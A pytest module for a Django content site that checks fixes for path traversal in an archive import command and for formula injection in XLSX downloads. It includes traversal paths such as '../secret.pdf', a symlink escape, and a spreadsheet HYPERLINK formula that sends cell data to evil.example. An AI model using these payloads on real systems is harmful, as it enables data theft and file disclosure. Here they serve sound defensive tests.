"""Files coming in and going out: archive imports, uploads, spreadsheet exports.

Replays findings 7 (formula injection in XLSX downloads), 8 (decompression
bombs and huge images uploaded through the admin) and 16 (``import_content``
reading attachment paths outside the import file's folder) of issue 13.
"""

import io
import json
import shutil
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook
from wagtail.documents import get_document_model

from content_types.models import PartyDocument
from editorial.factories import MemberFactory
from editorial.spreadsheets import text_cells
from tests.content_types.test_study import publish_module

FIXTURES = Path(__file__).parents[1] / "content_types" / "files" / "archive" / "files"
Document = get_document_model()


# --- finding 16: attachment paths in import_content ------------------------------


def document_line(number, attachments):
    return {
        "kind": "document",
        "unit": "DT",
        "title": f"Văn bản {number}",
        "number": number,
        "document_type": "BC",
        "issued_on": "2024-09-26",
        "attachments": attachments,
    }


@pytest.fixture
def import_folder(tmp_path):
    """An import folder with the fixture files, and a readable PDF beside it
    (outside it) that an archive must not be able to reach."""
    folder = tmp_path / "import"
    shutil.copytree(FIXTURES, folder / "files")
    secret = tmp_path / "secret.pdf"
    shutil.copyfile(FIXTURES / "nghi-quyet-05.pdf", secret)
    (folder / "files" / "link.pdf").symlink_to(secret)
    return folder


def write_archive(folder, *lines):
    path = folder / "archive.jsonl"
    path.write_text(
        "".join(json.dumps(line, ensure_ascii=False) + "\n" for line in lines), encoding="utf-8"
    )
    return path


def import_content(path):
    """Run the command in English; return (output, the CommandError or None)."""
    out = StringIO()
    with translation.override("en"):
        try:
            call_command("import_content", str(path), stdout=out, stderr=out)
        except CommandError as error:
            return out.getvalue(), error
    return out.getvalue(), None


def test_import_refuses_attachment_paths_leaving_the_folder(unit_tree, import_folder):
    """issue 13 #16: ``..``, absolute paths and symbolic links out of the import
    file's folder are refused line by line, and nothing is written."""
    secret = import_folder.parent / "secret.pdf"
    escapes = [
        "../secret.pdf",
        "files/../../secret.pdf",
        str(secret),
        "files/link.pdf",
    ]
    path = write_archive(
        import_folder,
        *(document_line(f"{n}-BC/HU", [name]) for n, name in enumerate(escapes, start=1)),
    )

    output, error = import_content(path)

    assert error is not None and "nothing was written" in str(error)
    lines = output.splitlines()
    for number, name in enumerate(escapes, start=1):
        expected = (
            f"line {number}: attachments: “{name}”: give the path relative to the import "
            "file's folder"
        )
        assert any(line.startswith(expected) for line in lines), output
    assert not PartyDocument.objects.exists()
    assert not Document.objects.exists()


def test_import_still_reads_attachments_inside_the_folder(unit_tree, import_folder):
    """issue 13 #16: a path inside the folder (even one naming its own folder
    on the way) is still imported."""
    path = write_archive(
        import_folder,
        document_line("1-BC/HU", ["files/nghi-quyet-05.pdf", "./files/ke-hoach-12.docx"]),
    )

    output, error = import_content(path)

    assert error is None, output
    document = PartyDocument.objects.get()
    assert sorted(a.document.title for a in document.attachments.all()) == [
        "ke-hoach-12",
        "nghi-quyet-05",
    ]


# --- finding 7: formulas in spreadsheet downloads --------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"Xem chi tiết")'


def test_text_cells_quote_formula_starts_and_keep_numbers():
    """issue 13 #7: the one rule every export writes its rows with."""
    values = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "Hà Nội", "", -5, 0.5, None]
    assert text_cells(values) == [
        "'" + HYPERLINK,
        "'+1+1",
        "'-2+3",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
        "Hà Nội",
        "",
        -5,
        0.5,
        None,
    ]


def test_study_report_download_writes_no_formula(client, unit_tree, board_user):
    """issue 13 #7: a unit named ``=HYPERLINK(...)`` and a module titled
    ``@SUM(...)`` come out of the study-report download as text, not as
    formulas; the counts stay numbers."""
    unit_tree.grassroots.name = HYPERLINK
    unit_tree.grassroots.save()
    publish_module(unit_tree.district, "@SUM(1+1) Nghị quyết", lessons=1)
    MemberFactory(branch=unit_tree.branch)
    client.force_login(board_user(unit_tree.district))

    response = client.get(reverse("study_report_xlsx"), {"unit": "DT"})

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    names = {row[1]: row[0] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert names["DT-X1"] == "'" + HYPERLINK
    header = next(sheet.iter_rows(values_only=True))
    assert header[3].startswith("'@SUM(1+1) Nghị quyết")
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == "DT-X1")
    assert row[2].value == 1 and row[2].data_type == "n"
